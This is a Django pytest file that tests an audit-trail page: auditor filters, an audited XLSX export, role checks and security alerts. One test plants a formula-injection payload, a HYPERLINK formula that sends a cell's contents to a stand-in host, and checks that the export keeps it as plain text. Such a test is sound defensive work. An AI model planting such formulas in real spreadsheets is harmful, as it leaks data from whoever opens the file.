"""The auditor's tools: filters over every column that matters, an audited XLSX export, the alerts page."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable

import pytest
from django.db.models import Max
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from shidian.accounts.models import User
from shidian.core import audit
from shidian.core.audit import AuditAction
from shidian.core.models import AuditEvent, AuditEventQuerySet
from shidian.pilots.models import PilotArea

pytestmark = pytest.mark.django_db
AUDIT_PAGE = "/system/audit/"
EXPORT = "/system/audit/export.xlsx"
ALERTS = "/system/audit/alerts/"


@pytest.fixture
def trail(db: None) -> Callable[..., AuditEventQuerySet]:
    watermark = AuditEvent.objects.aggregate(top=Max("id"))["top"] or 0
    return lambda **lookup: AuditEvent.objects.filter(id__gt=watermark, **lookup)


@pytest.fixture
def events(user: Callable[[str], User]) -> dict[str, AuditEvent]:
    liuzhou = PilotArea.objects.get(name="柳州市")
    with audit.request_context(ip="10.3.3.3"):
        return {
            "warned": audit.record(action=AuditAction.PILOT_WARNED, actor=user("demo-national"), obj=liuzhou),
            "failed": audit.record(action=AuditAction.LOGIN_FAILED, success=False, username="demo-pilot"),
            "login": audit.record(action=AuditAction.LOGIN, actor=user("demo-province"), obj=user("demo-province")),
        }


def listed(client: Client, **query: str) -> set[int]:
    return {e.pk for e in client.get(AUDIT_PAGE, query).context["page"]}


def test_filters_by_organisation_object_outcome_and_dates(
    client_as: Callable[[str], Client], events: dict[str, AuditEvent]
) -> None:
    client = client_as("demo-auditor")
    ours = {e.pk for e in events.values()}
    assert listed(client, organisation="发展规划司") & ours == {events["warned"].pk}
    assert listed(client, object="柳州市") & ours == {events["warned"].pk}
    assert listed(client, object=f"pilots.PilotArea:{events['warned'].object_id}") & ours == {events["warned"].pk}
    assert listed(client, outcome="failure") & ours == {events["failed"].pk}
    assert listed(client, outcome="success") & ours == {events["warned"].pk, events["login"].pk}
    today = timezone.localdate()
    assert listed(client, since=today.isoformat(), until=today.isoformat()) & ours == ours
    assert listed(client, until=(today - dt.timedelta(days=1)).isoformat()) & ours == set()
    assert listed(client, since=(today + dt.timedelta(days=1)).isoformat()) & ours == set()


def test_the_page_offers_the_registry_and_shows_labels(
    client_as: Callable[[str], Client], events: dict[str, AuditEvent]
) -> None:
    html = client_as("demo-auditor").get(AUDIT_PAGE).content.decode()
    assert '<option value="pilots.pilot.warned">试点警示</option>' in html
    assert "登录失败" in html


def test_the_export_holds_the_filtered_rows_and_is_audited(
    client_as: Callable[[str], Client],
    user: Callable[[str], User],
    events: dict[str, AuditEvent],
    trail: Callable[..., AuditEventQuerySet],
) -> None:
    response = client_as("demo-auditor").get(EXPORT, {"outcome": "failure", "user": "demo-pilot"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("编号", "时间", "用户名", "单位", "IP 地址", "操作")
    ids = [row[0] for row in rows[1:]]
    assert events["failed"].pk in ids and events["warned"].pk not in ids
    failed = next(row for row in rows[1:] if row[0] == events["failed"].pk)
    assert (failed[5], failed[6], failed[10]) == ("登录失败", "accounts.login_failed", "失败")
    assert failed[13] == events["failed"].hash
    [export] = trail(action=AuditAction.AUDIT_EXPORTED)
    assert export.actor == user("demo-auditor")
    assert export.detail["outcome"] == "failure" and export.detail["rows"] == len(ids)


@pytest.mark.parametrize("username", ["demo-national", "demo-secadmin", "demo-sysadmin", "demo-province"])
def test_only_auditors_export_or_see_alerts(client_as: Callable[[str], Client], username: str) -> None:
    client = client_as(username)
    assert client.get(EXPORT).status_code == 404
    assert client.get(ALERTS).status_code == 404


def test_alerts_show_lockouts_account_changes_and_bursts_of_refusals(
    client_as: Callable[[str], Client], user: Callable[[str], User], trail: Callable[..., AuditEventQuerySet]
) -> None:
    pilot = user("demo-pilot")
    with audit.request_context(ip="10.4.4.4"):
        audit.record(action=AuditAction.LOCKED_OUT, success=False, username="demo-expert", detail={"ip": "10.4.4.4"})
        audit.record(
            action=AuditAction.USER_PERMISSIONS_CHANGED,
            actor=user("demo-secadmin"),
            obj=pilot,
            changes={"role": ["pilot_officer", "national_admin"]},
        )
        for _i in range(6):
            audit.record(action=AuditAction.ACCESS_DENIED, actor=user("demo-province"), obj=pilot, success=False)
        for _i in range(2):  # below the threshold
            audit.record(action=AuditAction.LOGIN_FAILED, success=False, username="demo-ministry")
    response = client_as("demo-auditor").get(ALERTS)
    assert response.status_code == 200
    context = response.context
    assert context["lockouts"][0].actor_username == "demo-expert"
    assert context["account_changes"][0].changes == {"role": ["pilot_officer", "national_admin"]}
    bursts = {(b["actor_username"], b["count"]) for b in context["bursts"]}
    assert ("demo-province", 6) in bursts
    assert all(name != "demo-ministry" for name, _count in bursts)
    html = response.content.decode()
    assert "变更账户角色或单位" in html and "demo-expert" in html
    assert trail(action=AuditAction.AUDIT_ALERTS_VIEWED, actor_username="demo-auditor").count() == 1


def test_an_object_named_like_a_formula_stays_text_in_the_export(client_as: Callable[[str], Client]) -> None:
    """The trail holds what users typed (task titles, names): the auditor's workbook must never run it."""
    from shidian.core import audit

    formula = '=HYPERLINK("http://example.invalid/?d="&B3,"点此查看详情")'
    audit.record(action=AuditAction.LOGIN_FAILED, username=formula, success=False)
    response = client_as("demo-auditor").get(EXPORT, {"outcome": "failure"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
